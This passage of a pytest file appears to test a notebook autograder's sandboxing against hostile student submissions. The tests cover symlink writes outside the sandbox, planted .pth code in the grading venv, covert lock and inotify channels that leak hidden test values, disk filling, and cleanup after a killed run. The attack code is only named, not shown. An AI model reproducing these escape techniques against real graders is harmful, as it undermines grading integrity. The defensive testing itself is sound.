    checkpoint = nbformat.read(graded.root / "autograded" / "c_symlinker" / "ch12" / "05_checkpoint.ipynb", 4)
    points = scores(graded.root)["c_symlinker"]
    checks = {c.metadata["nbgrader"]["grade_id"]: c.get("outputs") for c in checkpoint.cells
              if c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_")}
    ran = {check for check, shown in checks.items() if shown or points.get(f"05_checkpoint/{check}")}
    assert len(checks) == 3 and ran == set(checks), f"checks that neither passed nor said why: {set(checks) - ran}"


def python_bytecode(path: str, tree: dict[str, str]) -> bool:
    """A new module cache Python itself may write beside a source it imported (without PYTHONDONTWRITEBYTECODE)."""
    folder, _, name = path.rpartition("/")
    return folder.endswith("__pycache__") and name.endswith(".pyc") and \
        f"{folder.removesuffix('__pycache__')}{name.split('.')[0]}.py" in tree


def test_no_byte_written_outside_the_sandboxes(graded):
    """Deliver 1: a symlink in a folder learner code can write is never followed by the host. The
    course (outside what grading writes), the canary, the whole grading venv (every file, and no new
    one: a .pth there runs in every later `course` command) are as they were after autograde,
    `course feedback` and `course grades`; the gradebook held no planted byte at any moment of grading;
    no planted code ran."""
    g = graded
    problems = []
    if g.errors:
        problems.append(f"instructor commands failed after grading: {g.errors}")
    venv = changed(g.venv_before, g.venv_after)
    venv["new"] = [path for path in venv["new"] if not python_bytecode(path, g.venv_after)]
    if any(venv.values()):
        problems.append(f"the grading venv ({sys.prefix}) changed: {venv}")
    course = changed(g.course_before, g.course_after)
    if any(course.values()):
        problems.append(f"the course changed outside the grading outputs: {course}")
    canary = g.targets.canary.read_bytes()
    if canary != b"untouched":
        problems.append(f"the canary outside the course now holds {len(canary)} bytes: {canary[:160]!r}")
    if g.gradebook_planted or PLANTED in g.root.joinpath("gradebook.db").read_bytes():
        problems.append("gradebook.db held bytes a learner process wrote (while the class was graded)")
    if g.targets.mark.exists():
        problems.append(f"code planted by a learner ran on the host, {len(g.targets.mark.read_text().splitlines())} "
                        "time(s) (in the grader, `course feedback`, `course grades`)")
    assert not problems, "\n".join(problems)
    with sqlite3.connect(g.root / "gradebook.db") as gradebook:
        assert gradebook.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


@pytest.mark.parametrize("student", ["a_covert_sender", "b_covert_receiver", "c_symlinker", "d_disk_filler"])
def test_no_attack_scores_more_than_its_twin(graded, student):
    twin = graded.students[student][1]
    by_student = scores(graded.root)
    mine, fair = by_student[student], by_student[twin]
    gained = {part: (points, fair.get(part, 0)) for part, points in mine.items() if points > fair.get(part, 0)}
    assert gained == {}, f"{student} earned more than {twin} on {gained}"


# --- Deliver 2 ----------------------------------------------------------------------------------------------

def secrets() -> set[str]:
    """Hidden-test lines and values (test_hostile_submissions.hidden_values), and the hidden arguments."""
    lines, values = hidden_values()
    public = "\n".join(c.source for p in RELEASE.glob("*.ipynb") for c in nbformat.read(p, as_version=4).cells)
    arguments = {a for a in HIDDEN_ARGUMENTS if a not in public}
    assert len(arguments) == len(HIDDEN_ARGUMENTS), f"in the release: {set(HIDDEN_ARGUMENTS) - arguments}"
    return lines | values | arguments


def test_the_covert_students_listened(graded):
    """Not a vacuous pass: the covert students' learner processes ran their receivers (on whichever of
    the two channels could be opened)."""
    for student in ("a_covert_sender", "b_covert_receiver"):
        for name in COVERT_NOTEBOOKS:
            text = printed(graded.root, student, name)
            assert "covert channels open: [" in text, f"{student} {name}: {text[-1500:]}"


@pytest.mark.parametrize("student", ["a_covert_sender", "b_covert_receiver"],
                         ids=["between_checks_of_one_student", "between_two_students"])
def test_no_hidden_input_crosses_a_lock_or_inotify_channel(graded, student):
    """Deliver 2: what A's answers were given by hidden checks reaches no output, plain or encoded:
    not A's own (another check of A's heard it), not B's (graded at the same time)."""
    hidden, written = secrets(), outputs(graded.root, student)
    assert len(written) >= 2 * len(COVERT_NOTEBOOKS), sorted(written)
    found = {}
    for path, text in written.items():
        text = decoded(text)
        items = sorted(s for s in hidden if s in text or json.dumps(s)[1:-1] in text)
        if items:
            found[path] = items
    assert not found, (f"{sum(map(len, found.values()))} hidden value(s) in {len(found)} output(s) of {student}: "
                       + "; ".join(f"{path}: {items[:4]}" for path, items in sorted(found.items())))


# --- Deliver 4 ----------------------------------------------------------------------------------------------

def test_a_disk_filler_is_refused_at_the_students_bound(graded):
    """Deliver 4: one size-bounded file system per student (256 MiB). Two checks writing 1 GiB each at
    the same time are refused at the bound, the refusal is reported, the grader's temp folder (every
    student's file system is in it) never grew by more than the bound (and some slack for what grading
    itself writes), and the neighbour is unharmed."""
    lost = graded.lost_bytes / MiB
    findings = graded.results["d_disk_filler"].findings
    assert lost < 300, f"the grader's temp folder grew by {lost:.0f} MiB while the class was graded"
    assert findings["disk_limit"] >= 1, f"no disk-limit finding for the disk filler: {findings}"
    neighbour = {part: points for part, points in scores(graded.root)["d_disk_filler_twin"].items()
                 if part.startswith("01_claims/")}  # the one notebook it submitted
    assert neighbour == {part: points for part, points in scores(graded.root)[COMPLETE].items() if part in neighbour}


# --- Deliver 6 ----------------------------------------------------------------------------------------------

def grader_mounts(found: set[str], *ours: Path) -> list[str]:
    """Mount points below the run's own folders (its temp folder, its course): other graders on the
    machine (another test module, say) may mount their own meanwhile."""
    return sorted(m for m in found if any(m == str(o) or m.startswith(f"{o}/") for o in ours))


def test_nothing_of_the_grader_is_left_after_grading(graded):
    """Deliver 6: after the run (and feedback, and grades), nothing of the grader's in its temp folder,
    no mount, no process."""
    g = graded
    assert g.tmp_seen - g.tmp_before, "the grader wrote nothing to tempfile.gettempdir(): TMPDIR was not used"
    left = sorted(g.tmp_after - g.tmp_before)
    assert not left, f"{len(left)} entries left in the grader's temp folder: {left[:10]}"
    assert not grader_mounts(g.mounts_after - g.mounts_before, g.tmp, g.root), "mounts left"
    assert not g.left_running, f"processes left running: {g.left_running}"


def test_nothing_is_left_when_grading_is_killed_midway(released, tmp_path):
    """Deliver 6: `course autograde --jobs 2` killed (SIGKILL to its process group) while checks run:
    within 30 s nothing of the grader's in its temp folder, no mount, no process of the run."""
    root = tmp_path / "course"
    shutil.copytree(released, root)
    for student in ("one", "two"):
        submit(root, student, {"01_claims.ipynb": notebook("01_claims.ipynb", SOLUTIONS)})
    mounts_before, children_before = mounts(), descendants(os.getpid())
    seen: set[int] = set()
    with private_tmpdir("hk-") as tmp, open(tmp_path / "autograde.log", "wb") as log:
        course = Path(sys.prefix) / "bin" / "course"
        run = subprocess.Popen([str(course), "autograde", "--jobs", "2", "--root", str(root)], stdout=log,
                               stderr=subprocess.STDOUT, start_new_session=True)
        try:
            deadline, sandboxes = time.monotonic() + 120, set()
            while time.monotonic() < deadline and run.poll() is None and not sandboxes:
                seen |= descendants(run.pid)
                sandboxes = {pid for pid in seen if alive(pid) and "grading.learner" in command(pid)}
                time.sleep(0.1)
            assert sandboxes, f"no learner process started within 120 s (autograde exited: {run.poll()})"
            time.sleep(1.0)  # checks running
            seen |= descendants(run.pid)
            os.killpg(run.pid, signal.SIGKILL)
            run.wait(10)
            deadline = time.monotonic() + 30
            while True:
                running = {pid: command(pid) for pid in seen | mentioning(str(tmp), str(root)) if alive(pid)}
                entries, new_mounts = sorted(os.listdir(tmp)), grader_mounts(mounts() - mounts_before, tmp, root)
                if (not running and not entries and not new_mounts) or time.monotonic() > deadline:
                    break
                time.sleep(0.5)
            assert not running, f"processes of the killed run still running after 30 s: {running}"
            assert not new_mounts, f"mounts of the killed run left after 30 s: {new_mounts}"
            assert not entries, f"{len(entries)} entries of the killed run left in the grader's temp folder: {entries}"
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(run.pid, signal.SIGKILL)
            kill_all({pid for pid in seen | descendants(os.getpid()) - children_before if alive(pid)}
                     | mentioning(str(tmp), str(root)))
            with contextlib.suppress(subprocess.TimeoutExpired):
                run.wait(10)
